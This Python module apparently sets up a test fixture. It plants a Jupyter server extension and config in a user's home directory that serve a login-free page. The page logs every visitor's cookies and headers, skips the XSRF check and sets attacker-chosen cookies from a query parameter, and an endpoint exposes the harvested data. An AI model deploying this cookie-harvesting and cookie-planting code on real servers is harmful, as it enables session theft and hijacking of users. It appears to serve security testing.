"""A notebook server whose owner has put a program of their own into it: pages without login, and a note of who came.

What is below is laid into a home directory before the server starts; it is all that a user needs, and may do.
"""

from __future__ import annotations

import os
from pathlib import Path

EXTENSION = '''
import json
from tornado.web import RequestHandler

SEEN = []


class Free(RequestHandler):
    """A page for everybody; what it does the test's script says, in the visitor's browser."""

    def prepare(self):
        SEEN.append({"cookie": self.request.headers.get("Cookie", ""), "headers": dict(self.request.headers)})

    def check_xsrf_cookie(self):
        pass

    def get(self):
        for line in self.get_arguments("plant"):
            self.add_header("Set-Cookie", line)
        self.set_header("Content-Type", "text/html")
        self.finish("<!doctype html><title>free</title><h1>Look at this notebook</h1>")

    post = get


class Seen(RequestHandler):
    def get(self):
        self.finish(json.dumps(SEEN))


def _jupyter_server_extension_points():
    return [{"module": "free_pages"}]


def _load_jupyter_server_extension(app):
    base = app.base_url
    app.web_app.add_handlers(".*$", [(base + "free", Free), (base + "seen", Seen)])
'''
CONFIG = '{"ServerApp": {"jpserver_extensions": {"free_pages": true}, "allow_unauthenticated_access": true}}'


def lay_into(home: Path) -> None:
    """Put it where Jupyter finds it."""
    owner = home.stat()
    files = {
        ".jupyter/jupyter_server_config.py": f"import sys\nsys.path.insert(0, '/home/{home.name}/evil')\n",
        ".jupyter/jupyter_server_config.d/free.json": CONFIG,
        "evil/free_pages.py": EXTENSION,
    }
    for name, text in files.items():
        path = home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        for made in (path, *path.parents):
            if made == home:
                break
            os.chown(made, owner.st_uid, owner.st_gid)
